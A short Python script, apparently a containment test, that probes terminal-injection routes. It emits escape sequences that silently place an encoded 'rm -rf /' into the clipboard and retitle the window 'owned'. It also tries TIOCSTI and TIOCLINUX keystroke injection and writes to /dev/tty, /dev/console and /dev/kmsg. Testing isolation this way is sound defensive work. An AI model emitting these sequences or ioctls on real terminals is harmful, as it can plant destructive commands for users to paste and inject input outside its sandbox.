import fcntl, os, sys
from attempt import attempt
print("started", flush=True)
sys.stdout.buffer.write(b"\x1b]52;c;cm0gLXJmIC8=\x07\x1b]0;owned\x07\x1b[2J\x1bP+q544e\x1b\\\x9b31m")
sys.stdout.flush()
leader, follower = os.openpty()
attempt("push into a terminal", lambda: fcntl.ioctl(follower, 0x5412, b"x"))
attempt("paste into a console", lambda: fcntl.ioctl(follower, 0x541C, b"\x03"))
attempt("push into stdin", lambda: fcntl.ioctl(0, 0x5412, b"x"))
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/kmsg"):
    attempt(path, lambda: os.write(os.open(path, os.O_WRONLY), b"owned\n"))
